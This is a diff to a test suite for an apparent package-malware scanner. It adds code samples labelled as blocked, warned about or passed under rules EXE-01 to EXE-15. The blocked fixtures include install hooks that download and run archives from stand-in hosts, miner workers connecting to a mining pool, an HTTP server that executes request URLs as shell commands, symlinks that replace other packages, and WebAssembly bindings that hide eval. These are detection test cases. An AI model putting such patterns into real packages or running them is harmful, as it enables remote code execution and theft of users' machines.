@@ -39,7 +39,20 @@ describeVerdicts("EXE-01", {
       },
     },
   },
+  warns: {
+    "a worker's part at an address that is put together": `
+      const text = await (await fetch(location.search.slice(1))).text(); importScripts(URL.createObjectURL(new Blob([text])));`,
+  },
   passes: {
+    "a worker's part at its own address": `importScripts(self.base + "part.js");`,
+    "rules for a page's browser": `
+      exports.hint = async (to) => {
+        const urls = await (await fetch("${url}")).json();
+        const s = document.createElement("script");
+        s.type = "speculationrules";
+        s.textContent = JSON.stringify({ prefetch: [{ urls }] });
+        document.head.append(s);
+      };`,
     "a loader for the caller": `exports.load = async (u) => new Function(await (await fetch(u)).text());`,
     "an answer that is parsed": `module.exports = () => fetch("${url}").then((r) => r.json()).then((j) => JSON.parse(j.x));`,
     "an answer that is returned": `exports.get = async () => (await fetch("${url}")).text();`,
@@ -47,8 +60,45 @@ describeVerdicts("EXE-01", {
   },
 });
 
+/** A runtime that is fetched as an archive at installation, unpacked, and what is done then. */
+function fetchedRuntime(unpack: string, then: string) {
+  return {
+    manifest: {
+      name: "sample",
+      bin: { sample: "bin/run.js" },
+      scripts: { postinstall: "node install.js" },
+    },
+    files: {
+      "install.js": `
+        const fs = require("fs"), path = require("path"), cp = require("child_process");
+        const folder = path.join(__dirname, "runtime");
+        const archive = path.join(folder, "runtime-" + process.platform + ".tgz");
+        fetch("https://files.example.test/runtime-" + process.platform + ".tgz").then(async (r) => {
+          fs.writeFileSync(archive, Buffer.from(await r.arrayBuffer()));
+          ${unpack}
+          ${then}
+        });`,
+      "bin/run.js": `require("child_process").spawnSync(__dirname + "/../runtime/bin/run", process.argv.slice(2), { stdio: "inherit" });`,
+    },
+  };
+}
+
+const unpack = `cp.spawnSync("tar", ["-xzf", archive, "-C", folder], { stdio: "inherit" });`;
+
 describeVerdicts("EXE-02", {
   blocks: {
+    "what was in an archive that was fetched": fetchedRuntime(
+      unpack,
+      `cp.spawn(path.join(folder, "bin", "run"), ["--daemon"]).unref();`,
+    ),
+    "the same, after a self-test": fetchedRuntime(
+      unpack,
+      `cp.spawnSync(path.join(folder, "bin", "run"), ["--version"]); cp.spawn(path.join(folder, "bin", "agent"), ["--daemon"]).unref();`,
+    ),
+    "by what takes it apart": fetchedRuntime(
+      `cp.spawnSync("tar", ["-xzf", archive, "--to-command=sh"]);`,
+      "",
+    ),
     "a program that is hidden": atInstall(
       `const fs = require("fs"), https = require("https"), cp = require("child_process"), os = require("os");
        const f = os.tmpdir() + "/x.exe";
@@ -106,7 +156,20 @@ describeVerdicts("EXE-02", {
       },
     },
   },
+  warns: {
+    "a command of which the program is named at a fixed place": asCommand(`
+      const { spawnSync } = require("child_process");
+      fetch("${url}").then((r) => r.json()).then((plan) => spawnSync(plan.program, ["--go"]));`),
+  },
   passes: {
+    "a runtime that is unpacked and asked for its version": fetchedRuntime(
+      unpack,
+      `cp.spawnSync(path.join(folder, "bin", "run"), ["--version"]);`,
+    ),
+    "a command that goes by a list of the project": asCommand(`
+      const { spawnSync } = require("child_process"), fs = require("fs");
+      const { url } = JSON.parse(fs.readFileSync("templates.json", "utf8"));
+      fetch(url).then((r) => r.json()).then((template) => spawnSync(template.program, ["--go"]));`),
     "a build of this platform": {
       manifest: {
         name: "sample",
@@ -313,6 +376,9 @@ describeVerdicts("EXE-07", {
   },
   passes: {
     "a terminal of the caller": `exports.attach = (socket, shell) => { const p = require("child_process").spawn(shell); socket.pipe(p.stdin); p.stdout.pipe(socket); };`,
+    "a start of which everything comes in": asCommand(`
+      const cp = require("child_process");
+      fetch(process.env.PLAN_URL).then((r) => r.json()).then((plan) => cp.spawnSync("cmd.exe", plan.args, plan.options));`),
     "a line reader": `exports.ask = () => require("readline").createInterface({ input: process.stdin });`,
     "a proxy": `exports.proxy = (a, port, host) => { const b = require("net").connect(port, host); a.pipe(b); b.pipe(a); };`,
   },
@@ -393,12 +459,34 @@ describeVerdicts("EXE-11", {
     "in the project, at load": `
       const fs = require("fs"), path = require("path");
       fs.writeFileSync(path.join(process.cwd(), "node_modules", "express", "index.js"), "x()");`,
+    "a link over a package that was removed": `
+      const fs = require("fs"), path = require("path");
+      const at = path.join(process.env.APP_ROOT, "node_modules", "express");
+      fs.rmSync(at, { recursive: true });
+      if (!fs.existsSync(at)) fs.symlinkSync(process.env.APP_OTHER, at, "dir");`,
+    "a link to its own files": `
+      const fs = require("fs"), path = require("path");
+      const at = path.join(process.env.APP_ROOT, "node_modules", "express");
+      if (!fs.existsSync(at)) fs.symlinkSync(path.join(__dirname, "other"), at, "dir");`,
+    "beside its own folder": `
+      require("fs").writeFileSync(process.cwd() + "/node_modules/sample/../express/index.js", "x()");`,
     "a neighbour, from the folder that a hook runs in": atInstall(`
       const fs = require("fs"), path = require("path");
       fs.appendFileSync(path.resolve(process.cwd(), "../other/index.js"), ";require('../sample/x')");`),
   },
   passes: {
     "a cache": `require("fs").writeFileSync(process.cwd() + "/node_modules/.cache/sample/a.json", "{}");`,
+    "its own folder among the project's packages": `
+      require("fs").writeFileSync("./node_modules/sample/.cache/results.json", "[]");`,
+    "a project that is put together for a test": `
+      const fs = require("fs"), os = require("os"), path = require("path");
+      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "check-"));
+      fs.mkdirSync(path.join(dir, "node_modules"));
+      fs.symlinkSync(process.cwd(), path.join(dir, "node_modules", "tool"), "dir");`,
+    "a link where nothing is": `
+      const fs = require("fs"), path = require("path");
+      const at = path.join(process.env.APP_ROOT, "node_modules", "tool");
+      if (!fs.existsSync(at)) fs.symlinkSync(process.env.APP_OTHER, at, "dir");`,
     "a patch tool": asCommand(
       `require("fs").writeFileSync(process.cwd() + "/node_modules/express/index.js", require("fs").readFileSync("patches/a"));`,
     ),
@@ -410,6 +498,25 @@ describeVerdicts("EXE-11", {
 
 describeVerdicts("EXE-13", {
   blocks: {
+    "work in a pool of workers": {
+      files: {
+        "index.js": `
+          const { Worker } = require("worker_threads");
+          const { cpus } = require("os");
+          Array.from({ length: Math.max(1, cpus().length - 1) }, () => new Worker(new URL("./w.js", "file://" + __filename)));`,
+        "w.js": `
+          const s = require("net").connect(3333, "pool.example.test");
+          s.on("connect", () => s.write(JSON.stringify({ method: "login", params: { login: "4", agent: "m/6" } })));`,
+      },
+    },
+    "work in a pool of a library": {
+      files: {
+        "index.js": `new (require("piscina"))({ filename: __dirname + "/w.js" }).run();`,
+        "w.js": `
+          const s = require("net").connect(3333, "pool.example.test");
+          s.on("connect", () => s.write(JSON.stringify({ method: "mining.subscribe", params: [] })));`,
+      },
+    },
     "a pool": `require("child_process").spawn("./m", ["-o", "stratum+tcp://pool.example.test:3333", "-u", "x"]);`,
     "a pool, encoded": atInstall(
       `const a = Buffer.from("${base64("./m --donate-level 1 -o pool.example.test:3333")}", "base64").toString(); require("child_process").exec(a);`,
@@ -440,6 +547,14 @@ describeVerdicts("EXE-14", {
     "a server at install": atInstall(
       `require("http").createServer((q, r) => r.end("ok")).listen(8080);`,
     ),
+    "the same, in the only file of a package that is all open": {
+      manifest: { exports: { "./*": "./*" } },
+      files: {
+        "serve.js": `
+          const { execSync } = require("child_process");
+          require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
+      },
+    },
     "requests that are carried out": `
       const { execSync } = require("child_process");
       require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
@@ -447,12 +562,45 @@ describeVerdicts("EXE-14", {
   passes: {
     "a server of the caller": `exports.serve = (port) => require("http").createServer((q, r) => r.end("ok")).listen(port);`,
     "a command": asCommand(`require("http").createServer((q, r) => r.end("ok")).listen(3000);`),
+    "a page for those who work on the package": {
+      manifest: { exports: { ".": "./index.js", "./*": "./*" } },
+      files: {
+        "index.js": "module.exports = (a) => a;",
+        "dev/serve.js": `
+          const fs = require("fs"), path = require("path");
+          require("http").createServer((q, r) => fs.readFile(path.join(__dirname, "..", q.url), (e, d) => r.end(d))).listen(8080);`,
+      },
+    },
     "a middleware": `module.exports = (req, res, next) => { res.setHeader("x", "1"); next(); };`,
   },
 });
 
+/** What Rust's tools write beside a module, with one function of it given. */
+function bindings(one: string): string {
+  const others = Array.from({ length: 12 }, (_, at) => {
+    const name = `__wbg_get_${at.toString(16).padStart(16, "0")}`;
+    return `module.exports.${name} = function (a, b) { return heap.push(Reflect.get(heap[a], heap[b])); };`;
+  });
+  return `
+    const heap = [], decoder = new TextDecoder("utf-8");
+    let wasm;
+    const text = (at, length) => decoder.decode(new Uint8Array(wasm.memory.buffer).subarray(at, at + length));
+    ${others.join("\n    ")}
+    ${one}
+    const bytes = require("fs").readFileSync(require("path").join(__dirname, "codec_bg.wasm"));
+    wasm = new WebAssembly.Instance(new WebAssembly.Module(bytes), { wbg: module.exports }).exports;`;
+}
+
+const newFunction = "__wbg_newnoargs_105ed471475aaf50";
+
 describeVerdicts("EXE-15", {
   blocks: {
+    "a binding that runs the text at once": bindings(
+      `module.exports.${newFunction} = function (at, length) { return new Function(text(at, length))(); };`,
+    ),
+    "a binding that evaluates": bindings(
+      `module.exports.__wbg_eval_105ed471475aaf50 = function (at, length) { return eval(text(at, length)); };`,
+    ),
     "text out of its memory is run": `
       const bytes = require("fs").readFileSync(__dirname + "/codec.wasm");
       const memory = new WebAssembly.Memory({ initial: 1 });
@@ -463,6 +611,11 @@ describeVerdicts("EXE-15", {
       WebAssembly.instantiate(bytes, { host: { run: require("child_process").execSync } });`,
   },
   warns: {
+    "a binding that makes a function": bindings(`
+    module.exports.${newFunction} = function (at, length) {
+      const ret = new Function(text(at, length));
+      return heap.push(ret);
+    };`),
     "the file system is handed over": `
       const fs = require("fs");
       WebAssembly.instantiate(fs.readFileSync(__dirname + "/a.wasm"), { host: { read: fs.readFileSync } });`,
